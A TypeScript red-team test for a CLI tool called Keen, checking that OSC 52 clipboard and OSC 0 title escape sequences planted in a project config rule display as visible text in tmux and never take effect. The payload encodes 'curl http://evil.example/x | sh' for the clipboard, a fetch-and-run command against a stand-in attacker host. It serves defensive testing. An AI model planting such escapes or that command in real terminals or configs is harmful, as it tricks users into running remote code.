/**
 * Red team (issue 24): a `keen:` line Keen prints while loading config quotes a rule from the
 * repository's `.keen/config.json`; a rule carrying OSC 52 / OSC 0 must reach the terminal as
 * visible escapes, never as a sequence (real tmux, `set-clipboard on`, raw bytes recorded).
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { type TmuxKeen, useTmuxRig } from './tmux.js';

const rig = useTmuxRig();

const ESC = '\x1b';
const BEL = '\x07';
const OSC52 = `${ESC}]52;c;${Buffer.from('curl http://evil.example/x | sh').toString('base64')}${BEL}`;
const OSC0 = `${ESC}]0;PWNED-TITLE${BEL}`;

function tmux(t: TmuxKeen, ...args: string[]): string {
  return execFileSync('tmux', ['-L', t.socket, ...args], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
}

describe('config warnings to a terminal', () => {
  it("a project rule's OSC 52 / OSC 0 in the prefix-rule warning sets no clipboard or title", async () => {
    fs.mkdirSync(path.join(rig.ws.cwd, '.keen'), { recursive: true });
    fs.writeFileSync(path.join(rig.ws.cwd, '.keen/config.json'), JSON.stringify({ permissions: { deny: [`bash(echo ${OSC52}${OSC0}*)`] } }));
    const file = path.join(rig.ws.home, 'pane.bytes');
    rig.fake.enqueue({ steps: [{ delayMs: 1500 }, { text: 'END-OF-RUN' }] });
    const t = rig.start({ args: ['run', 'hello'] });
    tmux(t, 'set-option', '-s', 'set-clipboard', 'on');
    tmux(t, 'pipe-pane', '-t', 'main', '-o', `cat >> '${file}'`);
    const screen = await t.waitFor('[keen exited');
    expect(screen).toContain('has no word boundary');
    expect(screen).toContain('\\x1b]52;c;');
    const raw = fs.readFileSync(file, 'latin1');
    expect(raw).not.toContain(`${ESC}]52`);
    expect(raw).not.toContain(`${ESC}]0;`);
    let buffer = '';
    try {
      buffer = tmux(t, 'show-buffer');
    } catch {}
    expect(buffer).not.toContain('curl');
    expect(tmux(t, 'display-message', '-p', '-t', 'main', '#{pane_title}')).not.toContain('PWNED');
  });
});
